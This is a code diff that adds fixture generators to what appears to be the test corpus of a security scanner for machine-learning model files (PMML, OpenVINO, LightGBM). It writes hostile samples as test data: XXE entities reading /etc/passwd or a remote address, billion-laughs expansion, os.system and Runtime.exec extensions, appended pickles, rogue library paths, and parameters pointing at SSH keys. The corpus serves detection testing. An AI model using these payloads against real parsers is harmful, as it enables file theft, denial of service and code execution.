@@ -524,10 +524,245 @@ def rdata():
     bad("r_is_pickle.rds", PICKLE, "a pickle by another name", "pickle.call-on-load", "malicious")
 
 
+# --- PMML ---
+def pmml_text(inside="", head="", root="PMML", attributes="", body=None, extension=""):
+    if body is None:
+        body = ('<TreeModel modelName="t" functionName="regression"><MiningSchema><MiningField name="y" '
+                'usageType="target"/><MiningField name="a"/></MiningSchema>%s<Node score="1"><True/><Node score="2">'
+                '<SimplePredicate field="a" operator="lessThan" value="0.5"/></Node></Node></TreeModel>' % inside)
+    return ('<?xml version="1.0" encoding="UTF-8"?>\n%s<%s xmlns="http://www.dmg.org/PMML-4_4" version="4.4"%s>'
+            '<Header copyright="x"><Application name="JPMML-SkLearn" version="1.6.18"/>%s'
+            '<Timestamp>2024-01-01T00:00:00Z</Timestamp></Header><DataDictionary><DataField name="y" '
+            'optype="continuous" dataType="double"/><DataField name="a" optype="continuous" dataType="double"/>'
+            '</DataDictionary>%s</%s>' % (head, root, attributes, extension, body, root))
+
+
+def pmml():
+    apply = '<LocalTransformations><DerivedField name="d" optype="continuous" dataType="double"><Apply function="%s">' \
+            '<FieldRef field="a"/></Apply></DerivedField></LocalTransformations>'
+    good = pmml_text(apply % "ln")
+    ok("p_ok.pmml", good, "honest")
+    ok("p_ok_name.xml", good, "honest, as .xml")
+    ok("p_ok_bom.pmml", b"\xef\xbb\xbf" + good.encode(), "honest, with a byte order mark")
+    ok("p_ok_utf16.pmml", b"\xff\xfe" + good.replace("UTF-8", "UTF-16").encode("utf-16-le"), "honest, in UTF-16")
+    ok("p_ok_pipeline.pmml", pmml_text(extension='<Extension name="pipeline">PMMLPipeline(steps=[("mapper", '
+                                                 'DataFrameMapper(features=[(["a"], None)])), ("classifier", '
+                                                 'DecisionTreeRegressor(random_state=13))])</Extension>'),
+       "the extension of sklearn2pmml")
+    ok("p_ok_define.pmml", good.replace("<TreeModel", '<TransformationDictionary><DefineFunction name="my.own" '
+                                        'optype="continuous"><ParameterField name="v"/><FieldRef field="v"/>'
+                                        "</DefineFunction></TransformationDictionary><TreeModel", 1).replace(
+        'function="ln"', 'function="my.own"'), "a function of its own")
+    ok("p_ok_schema.pmml", pmml_text(attributes=' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
+                                     'xsi:schemaLocation="http://www.dmg.org/PMML-4_4 http://www.dmg.org/v4-4/pmml-4-4.xsd"'),
+       "a schema's address")
+    ok("p_ok_comment.pmml", pmml_text(head="<!-- made by system; eval later -->\n"), "a comment")
+    bad("p_entity.pmml", pmml_text("&x;", '<!DOCTYPE PMML [<!ENTITY x "text">]>'), "an entity", "xml.entity")
+    bad("p_xxe.pmml", pmml_text("&x;", '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), "an external entity",
+        "xml.external")
+    bad("p_xxe_http.xml", pmml_text("&x;", '<!DOCTYPE PMML [<!ENTITY x SYSTEM "http://203.0.113.9/x">]>'),
+        "an external entity at an address", "xml.external")
+    bad("p_parameter.pmml", pmml_text("", '<!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://203.0.113.9/x.dtd"> %x;]>'),
+        "a parameter entity", "xml.external")
+    bad("p_dtd.pmml", pmml_text("", '<!DOCTYPE PMML SYSTEM "http://203.0.113.9/x.dtd">'), "a document type elsewhere",
+        "xml.external")
+    laughs = "".join('<!ENTITY l%d "%s">' % (i, ("&l%d;" % (i - 1)) * 10) for i in range(1, 12))
+    bad("p_laughs.pmml", pmml_text("&l11;", '<!DOCTYPE PMML [<!ENTITY l0 "lol">%s]>' % laughs), "a billion laughs",
+        "xml.expansion")
+    bad("p_laughs_attribute.pmml", pmml_text(attributes=' x="&l11;"', head='<!DOCTYPE PMML [<!ENTITY l0 "lol">%s]>' % laughs),
+        "a billion laughs in an attribute", "xml.expansion")
+    bad("p_utf16_xxe.pmml", b"\xff\xfe" + pmml_text("&x;", '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>').replace(
+        "UTF-8", "UTF-16").encode("utf-16-le"), "an external entity in UTF-16", "xml.external")
+    bad("p_doctype.pmml", pmml_text(head="<!DOCTYPE PMML>"), "a document type", "xml.doctype", "review", "suspicious")
+    bad("p_xinclude.pmml", pmml_text('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
+        "XInclude", "xml.include")
+    bad("p_script.pmml", pmml_text("<script>alert(1)</script>"), "a script", "xml.script")
+    bad("p_javascript.pmml", pmml_text('<Extension name="link" value="javascript:alert(1)"/>'), "a javascript address",
+        "data.code-in-text")
+    bad("p_extension.pmml", pmml_text('<Extension name="script" value="os"><![CDATA[import os\nos.system("echo canary")]]></Extension>'),
+        "program text in an extension", "pmml.extension-code,data.code-in-text")
+    bad("p_extension_eval.pmml", pmml_text('<Extension>eval(x)</Extension>'), "eval in an extension", "pmml.extension-code")
+    bad("p_extension_java.pmml", pmml_text('<Extension value="Runtime.getRuntime().exec(x)"/>'), "Java in an extension",
+        "pmml.extension-code")
+    bad("p_runtime.pmml", pmml_text(apply % "java.lang.Runtime"), "a class of the runtime as a function", "pmml.runtime-class")
+    bad("p_class.pmml", pmml_text(apply % "com.example.Udf"), "a class as a function", "pmml.java-class", "review", "suspicious")
+    bad("p_function.pmml", pmml_text(apply % "frobnicate"), "a function that is defined nowhere", "pmml.unknown-function",
+        "review", "suspicious")
+    bad("p_href.pmml", pmml_text('<Extension href="http://203.0.113.9/x"/>'), "an address", "pmml.external-reference", "review",
+        "suspicious")
+    bad("p_stylesheet.pmml", pmml_text(head='<?xml-stylesheet type="text/xsl" href="http://203.0.113.9/x.xsl"?>\n'),
+        "a style sheet", "xml.instruction", "review", "suspicious")
+    bad("p_php.pmml", pmml_text(head="<?php system('echo canary'); ?>\n"), "PHP", "xml.instruction", "review", "suspicious")
+    bad("p_deep.pmml", pmml_text("<a>" * 5000 + "</a>" * 5000), "5,000 deep", "xml.depth")
+    bad("p_broken.pmml", pmml_text("<a></b>"), "tags that do not match", "file.malformed")
+    bad("p_cut.pmml", good[:len(good) // 2], "cut off", "file.truncated,file.malformed", "review", "suspicious")
+    bad("p_trailing.pmml", good.encode() + PICKLE, "a pickle behind the document", "xml.trailing-data,data.hidden-payload")
+    bad("p_root.pmml", pmml_text(root="Other"), "another root", "pmml.bad-root")
+    bad("p_is_pickle.pmml", PICKLE, "a pickle by another name", "pickle.call-on-load", "malicious")
+
+
+# --- OpenVINO ---
+def ir(layers, edges="", head="", extra="", version="11"):
+    return ('<?xml version="1.0"?>\n%s<net name="model" version="%s"><layers>%s</layers><edges>%s</edges>%s<rt_info>'
+            '<MO_version value="2022.3.0"/><conversion_parameters><input_model value="DIR/model.onnx"/>'
+            "</conversion_parameters></rt_info></net>" % (head, version, layers, edges, extra))
+
+
+def const(number, offset, size, shape="4,2", kind="f32", name="w"):
+    return ('<layer id="%s" name="%s" type="Const" version="opset1"><data element_type="%s" shape="%s" offset="%s" '
+            'size="%s"/><output><port id="0" precision="FP32"><dim>4</dim><dim>2</dim></port></output></layer>'
+            % (number, name, kind, shape, offset, size))
+
+
+def openvino():
+    head = '<layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,4" element_type="f32"/></layer>'
+    tail = ('<layer id="2" name="mm" type="MatMul" version="opset1"><data transpose_a="false" transpose_b="false"/></layer>'
+            '<layer id="3" name="y" type="Result" version="opset1"/>')
+    edges = "".join('<edge from-layer="%s" from-port="0" to-layer="%s" to-port="0"/>' % pair
+                    for pair in ((0, 2), (1, 2), (2, 3)))
+
+    def both(name, text, weights=bytes(32)):
+        if weights is not None:
+            with open(os.path.join(out_dir, "ov_%s.bin" % name), "wb") as f:
+                f.write(weights)
+        return "ov_%s.xml" % name, text
+
+    def good(name, text, trick, weights=bytes(32)):
+        ok(*both(name, text, weights), trick)
+
+    def wrong(name, text, trick, rules, verdict="dangerous", label="malicious", weights=bytes(32)):
+        bad(*both(name, text, weights), trick, rules, verdict, label)
+
+    plain = ir(head + const(1, 0, 32) + tail, edges)
+    good("ok", plain, "honest")
+    good("ok_shared", ir(head + const(1, 0, 32) + const(9, 0, 32) + tail, edges), "constants that share their bytes")
+    good("ok_types", ir(head + const(1, 0, 32) + const(4, 0, 4, "8", "i4") + const(5, 0, 1, "3", "u1") + const(6, 0, 8, "", "i64") +
+                        const(7, 0, 0, "0,3", "f16") + const(8, 0, 7, "", "string") + tail, edges), "types and shapes")
+    body = ('<layer id="4" name="loop" type="Loop" version="opset5"><body><layers>%s</layers><edges>%s</edges></body></layer>'
+            % (head + const(1, 0, 32) + tail, edges))
+    good("ok_body", ir(head + const(1, 0, 32) + tail + body, edges), "a body with ids of its own")
+    good("ok_old", ir('<layer id="0" name="c" precision="FP32" type="Convolution"><blobs><weights offset="0" size="16"/><biases '
+                      'offset="16" size="16"/></blobs></layer>', version="7"), "a release before 2020")
+    wrong("range", ir(head + const(1, 1 << 20, 32) + tail, edges), "offset beyond the data file", "openvino.range")
+    wrong("range_size", ir(head + const(1, 0, 4096, "1024") + tail, edges), "size beyond the data file", "openvino.range")
+    wrong("overflow", ir(head + const(1, 2 ** 64 - 8, 32) + tail, edges), "offset and size wrap", "openvino.bad-number")
+    wrong("negative", ir(head + const(1, -64, 32) + tail, edges), "negative offset", "openvino.bad-number")
+    wrong("text", ir(head + const(1, "0x20", 32) + tail, edges), "offset is no number", "openvino.bad-number")
+    wrong("shape", ir(head + const(1, 0, 16) + tail, edges), "shape larger than its bytes", "openvino.size-mismatch")
+    wrong("shape_huge", ir(head + const(1, 0, 32, "4294967296,4294967296,16") + tail, edges), "shape beyond 64 bits", "openvino.bad-number")
+    wrong("missing", plain, "no data file", "openvino.weights-missing", "review", "suspicious", None)
+    wrong("edge", ir(head + const(1, 0, 32) + tail, edges + '<edge from-layer="77" from-port="0" to-layer="3" to-port="0"/>'),
+          "an edge from nowhere", "openvino.bad-edge")
+    wrong("duplicate", ir(head + const(1, 0, 32) + tail + const(1, 0, 32), edges), "two layers of one id", "openvino.duplicate-layer")
+    wrong("empty", ir(""), "no layers", "openvino.no-layers")
+    custom = '<layer id="5" name="c" type="%s" version="%s"/>'
+    wrong("extension", ir(head + const(1, 0, 32) + tail + custom % ("Evil", "extension"), edges), "a custom operation",
+          "openvino.custom-layer", "review", "suspicious")
+    wrong("custom", ir(head + const(1, 0, 32) + tail + custom % ("CustomOp", "opset1"), edges), "a custom operation by type",
+          "openvino.custom-layer", "review", "suspicious")
+    wrong("library", ir(head + const(1, 0, 32) + tail, edges, extra='<custom_extensions path="./libevil.so"/>'),
+          "an extension library", "openvino.library")
+    wrong("library_layer", ir(head + const(1, 0, 32) + tail + '<layer id="6" name="p" type="Evil" version="opset1"><data '
+                              'library="evil.dll"/></layer>', edges), "a library in a layer", "openvino.library")
+    wrong("xxe", ir(head + "&x;", edges, '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), "an external entity",
+          "xml.external")
+    wrong("laughs", ir(head, edges, '<!DOCTYPE net [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>'),
+          "a billion laughs", "xml.expansion")
+    wrong("code", ir(head.replace('"x"', '"%s"' % CODE.replace("'", "&apos;")) + tail, edges), "program text as a name",
+          "data.code-in-text")
+    wrong("trailing", plain + "more", "bytes behind the document", "xml.trailing-data")
+
+
+# --- LightGBM ---
+def lgb_tree(number, **change):
+    """Two splits and a split by categories: four leaves."""
+    lines = {"num_leaves": "4", "num_cat": "1", "split_feature": "0 2 3", "split_gain": "1 0.5 0.25",
+             "threshold": "0.5 0 1.5", "decision_type": "2 1 2", "left_child": "1 -1 -3", "right_child": "2 -2 -4",
+             "cat_boundaries": "0 1", "cat_threshold": "5", "leaf_value": "0.1 -0.2 0.3 0.4", "leaf_weight": "1 1 1 1",
+             "leaf_count": "5 5 5 5", "internal_value": "0 0 0", "internal_weight": "4 2 2",
+             "internal_count": "20 10 10", "is_linear": "0", "shrinkage": "0.1"}
+    lines.update(change)
+    return "Tree=%d\n%s\n\n\n" % (number, "\n".join("%s=%s" % item for item in lines.items() if item[1] is not None))
+
+
+def lgb_model(trees=None, sizes=None, head=None, parameters="", tail="pandas_categorical:null\n", end="end of trees\n\n"):
+    trees = [lgb_tree(0), lgb_tree(1)] if trees is None else trees
+    values = {"version": "v4", "num_class": "1", "num_tree_per_iteration": "1", "label_index": "0", "max_feature_idx": "3",
+              "objective": "regression", "feature_names": "a b c d", "feature_infos": "[0:1] none 0:1:2 [-1:1]"}
+    values.update(head or {})
+    if sizes is None:
+        sizes = " ".join(str(len(t)) for t in trees)
+    return ("tree\n%s\ntree_sizes=%s\n\n%s%sfeature_importances:\na=2\nc=1\n\nparameters:\n[boosting: gbdt]\n"
+            "[objective: regression]\n[data: ]\n[valid: ]\n[output_model: LightGBM_model.txt]\n[machine_list_filename: ]\n"
+            "%s\nend of parameters\n\n%s"
+            % ("\n".join("%s=%s" % item for item in values.items() if item[1] is not None), sizes, "".join(trees), end,
+               parameters, tail))
+
+
+def lightgbm():
+    ok("l_ok.txt", lgb_model(), "honest", "lightgbm")
+    ok("l_ok.lgb", lgb_model([lgb_tree(i) for i in range(60)]), "honest, many trees", "lightgbm")
+    ok("l_ok_leaf.txt", lgb_model([lgb_tree(0), "Tree=1\nnum_leaves=1\nnum_cat=0\nsplit_feature=\nsplit_gain=\nthreshold=\n"
+                                   "decision_type=\nleft_child=\nright_child=\nleaf_value=0.5\nleaf_weight=\nleaf_count=\n"
+                                   "internal_value=\ninternal_weight=\ninternal_count=\nis_linear=0\nshrinkage=1\n\n\n"]),
+       "a tree of one leaf", "lightgbm")
+    ok("l_ok_pandas.txt", lgb_model(tail='pandas_categorical:[["a", "b"], [1, 2, 3]]\n'), "categories of pandas", "lightgbm")
+    ok("l_ok_old.txt", lgb_model(head={"version": "v2"}).replace("tree_sizes=", "tree_old="), "a version without sizes", "lightgbm")
+    ok("l_ok_path.txt", lgb_model(parameters="[data: train.csv]\n[valid: valid/a.csv]\n"), "relative paths", "lightgbm")
+    ok("l_ok_home.txt", lgb_model(parameters="[data: /home/me/train.csv]\n"), "training data at home", "lightgbm")
+    ok("l_ok_words.txt", lgb_model(head={"feature_names": "system eval import_os exec"}), "words that only look like code",
+       "lightgbm")
+
+    def change(name, trick, rules, **lines):
+        trees = [lgb_tree(0), lgb_tree(1, **lines)]
+        bad("l_%s.txt" % name, lgb_model(trees), trick, rules, loader="lightgbm")
+
+    change("left", "left child beyond the tree", "lightgbm.bad-tree", left_child="1 900000 -3")
+    change("right", "right child beyond the leaves", "lightgbm.bad-tree", right_child="2 -2 -40")
+    change("circle", "a child before its parent", "lightgbm.bad-tree", left_child="1 -1 0")
+    change("self", "a node is its own child", "lightgbm.bad-tree", left_child="0 -1 -3")
+    change("edge", "a child is the number of inner nodes", "lightgbm.bad-tree", right_child="3 -2 -4")
+    change("text", "a child is no number", "lightgbm.bad-tree", left_child="1 x -3")
+    change("split", "split feature beyond the features", "lightgbm.bad-split", split_feature="0 2 70000")
+    change("split_negative", "negative split feature", "lightgbm.bad-split", split_feature="0 2 -5")
+    change("category", "a set of categories that does not exist", "lightgbm.bad-category", threshold="0.5 9 1.5")
+    change("boundaries", "sets of categories beyond their list", "lightgbm.bad-category", cat_boundaries="0 900")
+    change("num_cat", "more sets than boundaries", "lightgbm.bad-category", num_cat="7")
+    change("leaves", "more leaves than values", "lightgbm.list-length", num_leaves="400")
+    change("leaves_huge", "2^31-1 leaves", "lightgbm.list-length,lightgbm.bad-count", num_leaves="2147483647")
+    change("leaves_negative", "negative number of leaves", "lightgbm.bad-count", num_leaves="-3")
+    change("no_leaves", "no number of leaves", "lightgbm.bad-count", num_leaves=None)
+    change("short", "a list is too short", "lightgbm.list-length", leaf_value="0.1 0.2")
+    change("no_children", "no children", "lightgbm.list-length", left_child=None)
+    bad("l_class.txt", lgb_model(head={"num_class": "-1"}), "negative number of classes", "lightgbm.bad-count", loader="lightgbm")
+    bad("l_features.txt", lgb_model(head={"max_feature_idx": "99999999999999"}), "number of features beyond all bounds",
+        "lightgbm.bad-count", loader="lightgbm")
+    bad("l_sizes.txt", lgb_model(sizes="10 10"), "sizes that lead into the middle of a tree", "lightgbm.tree-sizes", loader="lightgbm")
+    bad("l_sizes_more.txt", lgb_model(sizes="%d %d 999999" % ((len(lgb_tree(0)),) * 2)), "more sizes than trees",
+        "lightgbm.tree-sizes", loader="lightgbm")
+    bad("l_hidden.txt", lgb_model([lgb_tree(0), lgb_tree(1), lgb_tree(7)], " ".join(
+        [str(len(lgb_tree(0))), str(len(lgb_tree(1)) + len(lgb_tree(7)))])), "a tree that one loader steps over",
+        "lightgbm.tree-sizes", loader="lightgbm")
+    for name, line in (("data", "[data: ../../../../etc/passwd]"), ("machine", "[machine_list_filename: /etc/passwd]"),
+                       ("machine_file", "[machine_list_file: file:///etc/hosts]"),
+                       ("output", "[output_model: ../../.ssh/authorized_keys]"), ("input", "[input_model: http://203.0.113.9/m]"),
+                       ("forced", "[forcedsplits_filename: /tmp/x.json]"), ("home", "[data: ~/.ssh/id_rsa]")):
+        bad("l_parameter_%s.txt" % name, lgb_model(parameters=line + "\n"), "a path among the parameters",
+            "lightgbm.file-parameter", loader="lightgbm")
+    bad("l_code.txt", lgb_model(head={"feature_names": CODE + " b c d"}), "program text as a feature's name", "data.code-in-text",
+        loader="lightgbm")
+    bad("l_code_parameter.txt", lgb_model(parameters="[objective: %s]\n" % CODE), "program text as a parameter",
+        "data.code-in-text", loader="lightgbm")
+    bad("l_pandas.txt", lgb_model(tail="pandas_categorical:{x}\n"), "categories that are no JSON", "lightgbm.bad-categorical",
+        loader="lightgbm")
+    bad("l_cut.txt", lgb_model()[:500], "cut off", "lightgbm.missing-part,lightgbm.list-length", loader="lightgbm")
+    bad("l_nul.txt", lgb_model().replace("feature_importances", "\0feature_importances"), "a NUL", "file.malformed", loader="lightgbm")
+
+
 def main():
     global out_dir
     out_dir = sys.argv[1]
-    for make in (xgboost, ubjson, msgpack, rdata):
+    for make in (xgboost, ubjson, msgpack, lightgbm, rdata, pmml, openvino):
         make()
     with open(os.path.join(out_dir, "manifest.tsv"), "w", encoding="utf-8") as f:
         for row in rows:
